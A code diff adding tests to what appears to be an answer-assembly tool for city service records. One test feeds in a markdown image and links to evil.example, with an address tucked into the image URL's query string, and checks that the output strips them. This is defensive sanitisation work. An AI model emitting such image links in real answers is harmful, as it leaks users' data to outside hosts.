@@ -64,6 +64,30 @@ async def test_what_the_model_passed_over_is_added_in_words_of_code() -> None:
     assert "Not settled:" in text and "when the work ends: nobody could work on it" in text
 
 
+async def test_a_written_answer_loads_and_opens_nothing_that_no_artifact_holds() -> None:
+    text = await written("Permit ALT1234 is open. ![map](https://evil.example/?q=5+Elm) [More](https://evil.example/x) at https://evil.example now.")
+    assert text == "Permit ALT1234 is open. map More at [link removed] now."
+
+
+def test_plain_assembly_keeps_an_artifacts_link_and_shows_no_picture() -> None:
+    found = replace(FOUND, excerpts=("- ALT1234 open, see https://city.example/ALT1234\n- ALT1234 plan: ![x](https://city.example/p.png)",))
+    text = compose(ledger(MET), [found], [])
+    assert "https://city.example/ALT1234" in text and "plan: x" in text and "![" not in text
+
+
+def test_each_record_is_shown_once() -> None:
+    near = "- 101000 Sidewalk: open, 5 Elm St, 0 m away\n- 101000 Sidewalk: open, 5 Elm St, 0 m away\n- 102000 Sign: open, 9 Elm St, 20 m away"
+    here = "- 101000 Sidewalk: open, 5 Elm St\n- 103000 Hole: open, 5 Elm St\n- 103000 Hole (second code): open, 5 Elm St"
+    findings = [replace(FOUND, excerpts=(near, here)), replace(FOUND, step=2, specialist="potholes", excerpts=(here,), criteria=("c2",))]
+    shown = [line for line in compose(ledger(MET, MET), findings, []).splitlines() if line.startswith("  - ")]
+    assert [line.split(",")[0] for line in shown] == [
+        "  - 101000 Sidewalk: open",
+        "  - 102000 Sign: open",
+        "  - 103000 Hole: open",
+        "  - 103000 Hole (second code): open",
+    ]
+
+
 def test_years_and_house_numbers_are_no_record_ids() -> None:
     assert unknown_ids("At 1035 Tremont St in 2025, zip 02115", "") == []
     assert unknown_ids("Case 101001357953, V138618, EXCA-1363916", "V138618") == ["101001357953", "EXCA-1363916"]
